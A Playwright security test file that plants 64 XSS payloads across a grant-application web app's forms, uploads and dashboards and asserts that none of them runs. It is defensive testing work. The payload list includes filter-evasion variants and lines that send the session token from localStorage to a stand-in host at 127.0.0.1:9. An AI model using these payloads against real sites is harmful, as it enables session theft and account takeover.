import type { Page } from '@playwright/test';
import { adminAccount, expect, test } from './fixtures.ts';
import { signIn } from './session.ts';

/**
 * Hostile content (issue 7 §3): 64 XSS payloads go into profile names, submission content,
 * generated results, ideas, funding requests and application titles through the real API, and
 * are opened in Chromium the way users see them (dashboard rows expanded, the submission viewer,
 * the applications page, the header). A payload that runs calls window.__xssHit or alert();
 * neither may ever fire, no popup may open, and a stored file opened directly cannot read
 * localStorage.
 */

const HIT = (n: number) => `__xssHit(${n})`;
const TEMPLATES: Array<(js: string) => string> = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><img src=x onerror=${js}>`,
  (js) => `<body onload=${js}>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<a href="javascript:${js}" id=xss-link>click</a>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<audio src=x onerror=${js}>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<marquee onstart=${js}>x</marquee>`,
  (js) => `<form action="javascript:${js}"><button id=xss-btn>go</button></form>`,
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js) => `<base href="javascript:${js}//">`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<SCRIPT>${js}</SCRIPT>`,
  (js) => `<img src="x" onerror="eval(atob('${Buffer.from(js).toString('base64')}'))">`,
  (js) => `<div style="background:url(javascript:${js})">x</div>`,
  (js) => `<style>@import 'javascript:${js}';</style>`,
  (js) => `<link rel=stylesheet href="javascript:${js}">`,
  (js) => `<textarea></textarea><img src=x onerror=${js}>`,
  (js) => `</title><img src=x onerror=${js}>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `[click](javascript:${js})`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `javascript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `<img src=x onerror=${js}//`,
  (js) => `<img/src=x/onerror=${js}>`,
  (js) => `<img src=x onerror=&#x5f;&#x5f;xssHit(0)>`.replace('xssHit(0)', js.slice(2)),
  (js) => `<svg><a xlink:href="javascript:${js}"><text x=0 y=20>x</text></a></svg>`,
  (js) => `<isindex type=image src=1 onerror=${js}>`,
  (js) => `<object data="data:text/html,<script>parent.${js}</script>"></object>`,
  (js) => `<template><img src=x onerror=${js}></template>`,
  (js) => `<select autofocus onfocus=${js}>`,
  (js) => `<keygen autofocus onfocus=${js}>`,
  (js) => `<x contenteditable onfocus=${js} autofocus>`,
  (js) => `<img src=x onerror=alert(${js.replace(/\D/g, '')})>`,
  (js) => `<script>alert(${js.replace(/\D/g, '')})</script>`,
  (js) => `<svg onload=alert(${js.replace(/\D/g, '')})>`,
  (js) => `<script>fetch('//127.0.0.1:9/'+localStorage.sessionId);${js}</script>`,
  (js) => `<img src=x onerror="new Image().src='//127.0.0.1:9/?'+localStorage.getItem('sessionId');${js}">`,
  (js) => `<script>window.open('/');${js}</script>`,
  (js) => `<a href=# onclick="window.open('javascript:opener.${js}')">x</a>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<script src=//127.0.0.1:9/x.js></script><img src=x onerror=${js}>`,
  (js) => `<iframe src="data:text/html,<script>parent.${js}</script>"></iframe>`,
  (js) => `'-${js}-'`,
  (js) => `";${js};//`,
  (js) => `</script><script>${js}</script>`,
  (js) => `<!--<img src="--><img src=x onerror=${js}//">`,
  (js) => `<svg><foreignObject><iframe srcdoc="<script>top.${js}</script>"></iframe></foreignObject></svg>`,
];
export const PAYLOADS = TEMPLATES.map((make, i) => `xss${i}: ${make(HIT(i))}`);

async function armPage(page: Page, seen: { dialogs: string[]; popups: string[] }) {
  await page.addInitScript(() => {
    const w = window as unknown as { __xss: number[]; __xssHit: (n: number) => void };
    w.__xss = [];
    w.__xssHit = (n: number) => w.__xss.push(n);
  });
  page.on('dialog', (d) => {
    seen.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('popup', (p) => seen.popups.push(p.url()));
}

async function hits(page: Page) {
  return page.evaluate(() => (window as unknown as { __xss: number[] }).__xss ?? ['hook missing']);
}

async function until<T>(fn: () => Promise<T | undefined>, timeoutMs = 60_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const v = await fn();
    if (v !== undefined) return v;
    if (Date.now() > deadline) throw new Error('timed out');
    await new Promise((r) => setTimeout(r, 500));
  }
}

test('64 XSS payloads in content, results, ideas, funding requests and application titles never run', async ({
  page,
  registerAndLogin,
  registerAccount,
  server,
}) => {
  test.setTimeout(240_000);
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
  const seen = { dialogs: [] as string[], popups: [] as string[] };
  // Control: the detectors work. A page without the app's CSP that inserts a payload as HTML
  // records the hit and the dialog; the app pages below must record neither.
  const control = await page.context().newPage();
  const controlSeen = { dialogs: [] as string[], popups: [] as string[] };
  await armPage(control, controlSeen);
  await control.setContent(
    `<div id=c></div><script>window.__xss = []; window.__xssHit = (n) => window.__xss.push(n); document.getElementById('c').innerHTML = ${JSON.stringify(PAYLOADS[1]! + PAYLOADS[49]!)};</script>`,
  );
  await expect.poll(() => hits(control)).toContain(1);
  await expect.poll(() => controlSeen.dialogs.length).toBeGreaterThan(0);
  await control.close();

  await armPage(page, seen);
  const { token: admin } = await adminAccount(server, registerAccount);
  const account = await registerAndLogin(page, { name: PAYLOADS[0]!.slice(0, 200) });
  const token = account.token;
  await server.api('POST', `/api/admin/users/${account.user.id}/credits`, {
    token: admin,
    body: { amount: 20, reason: 'xss e2e' },
  });

  const all = PAYLOADS.join('\n');
  const program = 'ca-nserc-alliance-advantage';
  const analysis = await server.api('POST', '/api/submissions', {
    token,
    body: {
      type: 'analysis',
      programId: program,
      contentJson: {
        programId: program,
        inputMethod: 'text',
        content: `Objectives: deploy 40 sensors by month 12.\n${all}`,
      },
    },
  });
  expect(analysis.status).toBe(201);
  const generation = await server.api('POST', '/api/submissions', {
    token,
    body: {
      type: 'generation',
      programId: program,
      contentJson: {
        programId: program,
        projectTitle: '<img src=x onerror=__xssHit(900)>',
        projectOverview: all.slice(0, 4900),
        keyObjectives: PAYLOADS.slice(20, 40).join(' ').slice(0, 4900),
        totalBudget: '<svg onload=__xssHit(901)>',
        projectTimeline: PAYLOADS.slice(40).join(' ').slice(0, 4900),
        timelineMilestones: [
          {
            id: '1',
            title: '<script>__xssHit(902)</script>',
            description: PAYLOADS[3],
            startDate: '2026-01-01',
            endDate: '2026-06-30',
            budgetAmount: '$1',
            deliverables: PAYLOADS[4],
          },
        ],
        teamLeadName: '"><img src=x onerror=__xssHit(903)>',
        teamLeadRole: PAYLOADS[1]!.slice(0, 190),
        teamProfiles: PAYLOADS.slice(0, 20).join(' ').slice(0, 4900),
        industryPartner: PAYLOADS[2]!.slice(0, 190),
      },
    },
  });
  expect(generation.status, JSON.stringify(generation.body)).toBe(201);
  const idea = await server.api('POST', '/api/idea-generator-requests', {
    token,
    body: {
      researchBackground: all.slice(0, 4900),
      researchInterests: PAYLOADS.slice(30).join(' ').slice(0, 4900),
    },
  });
  expect(idea.status).toBe(201);
  const funding = await server.api('POST', '/api/funding-finder-requests', {
    token,
    body: {
      researchTopic: PAYLOADS[5]!.slice(0, 200),
      researchDetails: all.slice(0, 4900),
      teamProfile: PAYLOADS.slice(10, 20).join(' ').slice(0, 2900),
      fileContent: all,
    },
  });
  expect([201, 402]).toContain(funding.status);
  for (const [i, p] of PAYLOADS.entries()) {
    const res = await server.api('POST', '/api/applications', {
      token,
      body: {
        title: p.slice(0, 200),
        program: PAYLOADS[(i + 1) % PAYLOADS.length]!.slice(0, 200),
        amount: '$1',
      },
    });
    expect(res.status, p).toBe(201);
  }
  const upload = new FormData();
  upload.append(
    'file',
    new Blob([`<html><body>${all}</body></html>`], { type: 'text/html' }),
    'payloads.txt',
  );
  const up = await fetch(`${server.url}/api/upload`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
    body: upload,
  });
  expect(up.status).toBe(200);
  const fileUrl = ((await up.json()) as { fileUrl: string }).fileUrl;

  // The jobs finish; their results carry the payloads back (generated drafts quote the input).
  const done = await until(async () => {
    const list = (await server.api('GET', '/api/submissions', { token })).body as Array<{
      id: string;
      status: string;
      results: unknown;
    }>;
    return list.length === 2 && list.every((s) => s.status !== 'processing') ? list : undefined;
  }, 90_000);
  const resultsText = JSON.stringify(done.map((s) => s.results));
  expect(resultsText).toMatch(/__xssHit\(\d+\)/);

  // Dashboard: every row, every expandable result opened.
  await page.goto('/dashboard');
  await expect(page.getByText(/Recent Activity/).first()).toBeVisible();
  await expect(page.locator('body')).toContainText('xss0:');
  for (const button of await page.getByRole('button', { name: /view|show|expand|details/i }).all()) {
    if (await button.isVisible().catch(() => false))
      await button.click({ timeout: 2000 }).catch(() => undefined);
  }
  await page.waitForTimeout(500);
  expect(await hits(page), 'payload ran on the dashboard').toEqual([]);

  // The submission viewer, for both submissions.
  for (const s of done) {
    await page.goto(`/submissions/${s.id}/view`);
    await page.waitForLoadState('networkidle');
    // Where the results carry payloads (the generated draft quotes its input), the viewer shows them as text.
    if (JSON.stringify(s.results).includes('__xssHit('))
      await expect(page.locator('body')).toContainText('__xssHit(');
    else await expect(page.locator('main, body').first()).toContainText(/\S/);
    await page.waitForTimeout(300);
    expect(await hits(page), `payload ran in the viewer of ${s.id}`).toEqual([]);
  }

  // The application tracker with 64 hostile titles and programs.
  await page.goto('/applications');
  await expect(page.locator('body')).toContainText('xss63:');
  await page.waitForTimeout(300);
  expect(await hits(page), 'payload ran on /applications').toEqual([]);

  // Clicking the links and buttons the payloads tried to plant does nothing either.
  for (const id of ['#xss-link', '#xss-btn'])
    expect(await page.locator(id).count(), `${id} became a real element`).toBe(0);

  // A stored file opened directly is an attachment in a sandbox: it never renders with access
  // to the app's origin, so it cannot read localStorage.
  const direct = await page.context().newPage();
  await armPage(direct, seen);
  await direct.route('**/api/files/**', (route) =>
    route.continue({ headers: { ...route.request().headers(), authorization: `Bearer ${token}` } }),
  );
  const response = await direct.request.get(server.url + fileUrl, {
    headers: { authorization: `Bearer ${token}` },
  });
  expect(response.headers()['content-disposition']).toMatch(/^attachment/);
  expect(response.headers()['content-security-policy']).toMatch(/sandbox/);
  expect(response.headers()['x-content-type-options']).toBe('nosniff');
  const download = direct.waitForEvent('download', { timeout: 10_000 }).catch(() => null);
  await direct.goto(server.url + fileUrl).catch(() => undefined);
  const rendered = await direct
    .evaluate(() => {
      try {
        return `readable:${localStorage.getItem('sessionId')}`;
      } catch {
        return 'blocked';
      }
    })
    .catch(() => 'not rendered');
  expect(
    Boolean(await download) ||
      rendered === 'blocked' ||
      rendered === 'not rendered' ||
      rendered === 'readable:null',
    rendered,
  ).toBe(true);
  await direct.close();

  expect(seen.dialogs, 'a payload opened a dialog').toEqual([]);
  expect(seen.popups, 'a payload opened a window').toEqual([]);
  // The session is still where the app keeps it, unread by anyone else.
  expect(await page.evaluate(() => localStorage.getItem('sessionId'))).toBe(token);
});

// Every third payload (22, one per template family) as a name: each needs its own account.
const NAME_PAYLOADS = PAYLOADS.filter((_, i) => i % 3 === 0);

test(`${NAME_PAYLOADS.length} XSS payloads as profile names never run in the header`, async ({
  page,
  registerAccount,
}) => {
  test.setTimeout(240_000);
  const seen = { dialogs: [] as string[], popups: [] as string[] };
  await armPage(page, seen);
  await page.goto('/login');
  for (const payload of NAME_PAYLOADS) {
    const name = payload.slice(0, 200);
    const account = await registerAccount({ name });
    await signIn(page, account.token);
    await page.goto('/dashboard');
    await expect(page.locator('body')).toContainText(name.slice(0, 40));
    expect(await hits(page), `payload ran as a name: ${name}`).toEqual([]);
  }
  expect(seen.dialogs).toEqual([]);
  expect(seen.popups).toEqual([]);
});
